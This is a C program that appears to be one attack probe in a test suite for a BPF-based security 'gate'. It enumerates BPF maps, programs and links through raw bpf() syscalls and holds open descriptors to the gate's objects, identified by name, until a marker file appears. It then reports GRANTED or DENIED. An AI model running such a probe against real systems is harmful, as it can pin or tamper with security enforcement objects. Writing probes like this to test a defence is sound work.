/*
 * Opens every map, program and link that comes, by its id, and keeps it, until the file that is named appears:
 * `grab_objects FILE`. It counts the gate's, which it knows by their names; links have none, and count if their programs do.
 */
#include "attack.h"

enum {
	MAP_GET_NEXT_ID = 12, PROG_GET_FD_BY_ID = 13, MAP_GET_FD_BY_ID = 14, OBJ_GET_INFO = 15,
	LINK_GET_FD_BY_ID = 30, LINK_GET_NEXT_ID = 31,
	MAP_NAME = 24, PROGRAM_NAME = 64, LINK_PROGRAM = 8,
};

static uint32_t grabbed;

static long bpf(int command, void *attributes, size_t size)
{
	return syscall(SYS_bpf, command, attributes, size);
}

static long by_id(int command, uint32_t id)
{
	uint32_t attributes[4] = { id };

	return bpf(command, attributes, sizeof(attributes));
}

static int is_gates(int fd, int command)
{
	char info[232] = "";
	struct {
		uint32_t fd, size;
		uint64_t info;
	} attributes = { fd, sizeof(info), (uintptr_t)info };

	if (bpf(OBJ_GET_INFO, &attributes, sizeof(attributes)) != 0)
		return 0;
	const char *name = info + (command == MAP_GET_FD_BY_ID ? MAP_NAME : PROGRAM_NAME);

	if (command == LINK_GET_FD_BY_ID) {
		int program = by_id(PROG_GET_FD_BY_ID, *(uint32_t *)(info + LINK_PROGRAM));

		return program >= 0 && is_gates(program, PROG_GET_FD_BY_ID);
	}
	return strcmp(name, "gate_hide") != 0 && (strncmp(name, "gate_", 5) == 0 || strncmp(name, "guard", 5) == 0);
}

/* All after `last`; returns the last before the first that is refused, to try that again. */
static uint32_t grab(int next, int command, uint32_t last)
{
	int refused = 0;

	for (uint32_t id = last;;) {
		uint32_t attributes[4] = { id };

		if (bpf(next, attributes, sizeof(attributes)) != 0)
			return last;
		id = attributes[1];
		int fd = by_id(command, id);

		if (fd < 0) {
			refused = 1;
			continue;
		}
		if (!refused)
			last = id;
		if (is_gates(fd, command))
			grabbed++;
		else
			close(fd);
	}
}

int main(int count, char **arguments)
{
	uint32_t map = 0, program = 0, link = 0;

	if (count != 2)
		end(ERROR, "a file is needed");
	while (access(arguments[1], F_OK) != 0) {
		map = grab(MAP_GET_NEXT_ID, MAP_GET_FD_BY_ID, map);
		program = grab(BPF_PROG_GET_NEXT_ID, PROG_GET_FD_BY_ID, program);
		link = grab(LINK_GET_NEXT_ID, LINK_GET_FD_BY_ID, link);
	}
	end(grabbed ? GRANTED : DENIED, "%u of the gate's, up to map %u, program %u, link %u", grabbed, map, program, link);
}
